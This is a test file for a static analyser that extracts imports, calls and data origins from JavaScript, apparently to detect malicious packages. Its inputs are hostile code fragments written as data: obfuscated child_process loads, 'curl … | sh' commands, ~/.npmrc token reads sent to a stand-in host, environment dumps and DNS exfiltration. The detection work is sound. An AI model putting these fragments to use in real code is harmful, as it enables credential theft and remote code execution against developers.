import { describe, expect, it } from 'vitest';
import { jsFileFacts } from '../../src/facts/js-facts.js';

const facts = (code: string, path = 'index.js') => jsFileFacts(path, code);
const callees = (code: string) => facts(code).calls.map((call) => call.callee);

describe('module names survive evasion', () => {
  it.each([
    ["require('child_process')", 'child_process'],
    ["require('node:child_process')", 'child_process'],
    ["require('child' + '_process')", 'child_process'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the template is the code under test
    ["require(`child_${'process'}`)", 'child_process'],
    ["require(['child', 'process'].join('_'))", 'child_process'],
    ["require('ssecorp_dlihc'.split('').reverse().join(''))", 'child_process'],
    ['require(String.fromCharCode(102, 115))', 'fs'],
    ["require(Buffer.from('6368696c645f70726f63657373', 'hex').toString())", 'child_process'],
    ["require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString())", 'child_process'],
    ["require(atob('Y2hpbGRfcHJvY2Vzcw=='))", 'child_process'],
    ["const m = 'child_' + 'process'; require(m)", 'child_process'],
    ["import('fs/promises')", 'fs'],
    ["import cp from 'child_process'", 'child_process'],
    ["function d(x) { return Buffer.from(x, 'hex').toString() } require(d('6673'))", 'fs'],
  ])('%s → %s', (code, module) => {
    expect(facts(code).imports.map((use) => use.module)).toContain(module);
  });

  it('marks names that were computed rather than written', () => {
    expect(facts("require('child' + '_process')").imports[0]?.computed).toBe(true);
    expect(facts("require('fs')").imports[0]?.computed).toBe(false);
  });
});

describe('callees resolve through aliases', () => {
  it.each([
    ["const cp = require('child_process'); cp.exec('x')", 'child_process.exec'],
    ["const { exec: run } = require('child_process'); run('x')", 'child_process.exec'],
    ["const later = require('child_process').exec; later('x')", 'child_process.exec'],
    ["import { spawn as go } from 'node:child_process'; go('x')", 'child_process.spawn'],
    ["require('child_process')['ex' + 'ecSync']('x')", 'child_process.execSync'],
    ["global['ev' + 'al']('1')", 'eval'],
    ["globalThis[atob('ZXZhbA==')]('1')", 'eval'],
    ["const g = typeof window !== 'undefined' ? window : globalThis; g['fe' + 'tch']('u')", 'fetch'],
    ["require('fs').promises.readFile('x')", 'fs.readFile'],
    ["const https = require('https'); const req = https.request({}); req.end('x')", 'https.request().end'],
    ["new (require('module').constructor)()._compile('x')", 'module.constructor()._compile'],
    ["''.constructor.constructor('return process')()", 'Function'],
    ["(() => {}).constructor('return 1')()", 'Function'],
    ['[].constructor.constructor(code)()', 'Function'],
    ['eval.call(null, code)', 'eval'],
    ['Reflect.apply(eval, null, [code])', 'eval'],
    ["require.main.require('child_process').exec('id')", 'child_process.exec'],
    ["module.constructor._load('child_process').execSync('id')", 'child_process.execSync'],
    ["process.mainModule.require('child_process').spawn('sh')", 'child_process.spawn'],
  ])('%s → %s', (code, callee) => {
    expect(callees(code)).toContain(callee);
  });

  it('unwraps .call and .apply so the real arguments are seen', () => {
    const viaCall = facts(
      "const cp = require('child_process'); cp.exec.call(cp, 'curl https://x.invalid | sh')",
    ).calls.find((call) => call.callee === 'child_process.exec');
    expect(viaCall?.args[0]?.value).toBe('curl https://x.invalid | sh');
    const viaApply = facts("require('child_process').exec.apply(null, ['id'])").calls.find(
      (call) => call.callee === 'child_process.exec',
    );
    expect(viaApply?.args[0]?.value).toBe('id');
  });

  it('keeps one-letter names of different functions apart (minified code)', () => {
    const code =
      "function a(){ var n = 0; return n } function b(){ var n = require('./x'); return n }; function c(){ var t = process; return t.env }";
    expect(facts(code).accesses.map((access) => access.path)).toContain('process.env');
  });

  it('flags a callee reached through a computed key, directly or via a variable', () => {
    const direct = facts("global['ev' + 'al'](x)").calls.find((call) => call.callee === 'eval');
    const aliased = facts("const run = global['ev' + 'al']; run(x)").calls.find(
      (call) => call.callee === 'eval',
    );
    const plain = facts('const F = Function; new F(x)').calls.find((call) => call.callee === 'Function');
    expect(direct?.hidden).toBe(true);
    expect(aliased?.hidden).toBe(true);
    expect(plain?.hidden).toBe(false);
  });
});

describe('where values come from', () => {
  const argOrigins = (code: string, callee: string) =>
    facts(code)
      .calls.find((call) => call.callee === callee)
      ?.args.flatMap((arg) => arg.origins) ?? [];

  it('a credential path read and sent', () => {
    const code = `const fs = require('fs'), os = require('os'), https = require('https');
      const p = require('path').join(os.homedir(), '.npmrc');
      const token = fs.readFileSync(p, 'utf8');
      https.request({ host: 'x.invalid' }).end(token);`;
    expect(argOrigins(code, 'https.request().end')).toContain('sensitive-file');
  });

  it('the whole environment, serialised', () => {
    expect(
      argOrigins("fetch('https://x.invalid', { body: JSON.stringify(process.env) })", 'fetch'),
    ).toContain('env-all');
  });

  it('a response handed to eval, through a callback', () => {
    const code =
      "require('https').get('https://x.invalid/a', (res) => res.on('data', (chunk) => eval(chunk)))";
    expect(argOrigins(code, 'eval')).toContain('network');
  });

  it('a helper that downloads returns downloaded data', () => {
    const code = `const https = require('https');
      function fetchText(url) { return new Promise((ok) => https.get(url, (r) => ok(r))); }
      async function main() { eval(await fetchText('https://x.invalid')); }`;
    expect(argOrigins(code, 'eval')).toContain('network');
  });

  it('data carried through forEach into a DNS lookup', () => {
    const code = `const dns = require('dns'); const os = require('os');
      const parts = Buffer.from(os.hostname()).toString('hex').match(/.{1,60}/g);
      parts.forEach((part) => dns.lookup(part + '.x.invalid', () => {}));`;
    expect(argOrigins(code, 'dns.lookup')).toContain('host-info');
  });

  it('the environment at the bottom of a long call chain still reaches the request', () => {
    // Padding the expression with thousands of nodes used to hide its source: only the first 3,000 were read.
    const chain = `[process.env.NPM_TOKEN]${'.concat([])'.repeat(2_000)}`;
    const code = `fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(${chain}) })`;
    expect(argOrigins(code, 'fetch')).toContain('env');
    const clean = `fetch('https://x.invalid', { method: 'POST', body: JSON.stringify([1]${'.concat([])'.repeat(2_000)}) })`;
    expect(argOrigins(clean, 'fetch')).toEqual([]);
  });

  it('a chain built on an alias learns its origins when the alias is bound later in the file', () => {
    const code = `function send() { const copy = data.slice().concat([]); fetch('https://x.invalid', { body: copy }); }
      var data = [process.env.NPM_TOKEN];`;
    expect(argOrigins(code, 'fetch')).toContain('env');
  });

  it('what a variable learns midway through a pass is seen by the rest of that pass', () => {
    // Three hops written bottom-up need all three passes; `b = a` must see the `a` set inside the function
    // the same pass, although the array holding both was looked at (and remembered) before `a` was set.
    const code = `function send() { fetch('https://x.invalid', { method: 'POST', body: e }); }
      var e = d;
      var d = b;
      var c = [function () { a = process.env.NPM_TOKEN; }, (b = a)];`;
    expect(argOrigins(code, 'fetch')).toContain('env');
  });

  it('decoded data', () => {
    expect(argOrigins("eval(Buffer.from(payload, 'base64').toString())", 'eval')).toContain('decoded');
  });
});

describe('strings', () => {
  it('keeps literals and folded strings, and marks decoded ones', () => {
    const found = facts(
      "const a = 'https://webhook.site/' + 'abc'; const b = atob('aHR0cHM6Ly94LmludmFsaWQ=');",
    ).strings;
    expect(found.find((text) => text.value === 'https://webhook.site/abc')?.derived).toBe(true);
    expect(found.find((text) => text.value === 'https://x.invalid')?.decoded).toBe(true);
  });

  it('keeps the constant parts of a partly dynamic command', () => {
    const call = facts("require('child_process').exec('curl -s ' + base + '/x.sh -o ' + out)").calls.find(
      (candidate) => candidate.callee === 'child_process.exec',
    );
    expect(call?.args[0]?.pattern).toBe('curl -s …/x.sh -o …');
  });
});

describe('parsing never hides code', () => {
  it('recovers around a syntax error', () => {
    const result = facts(
      "const fs = require('fs');\nfs.readFileSync(require('os').homedir() + '/.npmrc');\nfunction ( {{{ broken",
    );
    expect(result.parse).toBe('recovered');
    expect(result.calls.map((call) => call.callee)).toContain('fs.readFileSync');
  });

  it('reads sloppy scripts (HTML comments, with, octal)', () => {
    const result = facts("<!-- legacy\nwith (Math) { x = 010 }\nrequire('child_process').exec('id')");
    expect(result.parse).toBe('parsed');
    expect(result.calls.map((call) => call.callee)).toContain('child_process.exec');
  });

  it('falls back to tokens when nesting defeats the parser, and still sees the call', () => {
    const result = facts(
      `x = ${'['.repeat(100_000)}${']'.repeat(100_000)};\nrequire('child_process').exec('curl https://x.invalid | sh')`,
    );
    expect(result.parse).toBe('tokens');
    expect(result.calls.map((call) => call.callee)).toContain('child_process.exec');
    expect(result.strings.map((text) => text.value)).toContain('curl https://x.invalid | sh');
  });

  it('reads TypeScript', () => {
    const result = facts(
      "import { exec } from 'child_process';\nconst cmd: string = 'id';\nexec(cmd as string);",
      'index.ts',
    );
    expect(result.parse).toBe('parsed');
    expect(result.calls.map((call) => call.callee)).toContain('child_process.exec');
  });

  it('counts obfuscator signals', () => {
    const names = Array.from({ length: 30 }, (_, i) => `_0x${(0x1a2b + i).toString(16)}`);
    const code = `var _0x5f46 = [${Array.from({ length: 25 }, (_, i) => `'s${i}'`).join(',')}];\n${names.map((n) => `var ${n} = _0x5f46[1];`).join('\n')}`;
    const result = facts(code);
    expect(result.signals.hexIdentifiers).toBeGreaterThanOrEqual(30);
    expect(result.signals.stringArray).toBe(true);
  });
});
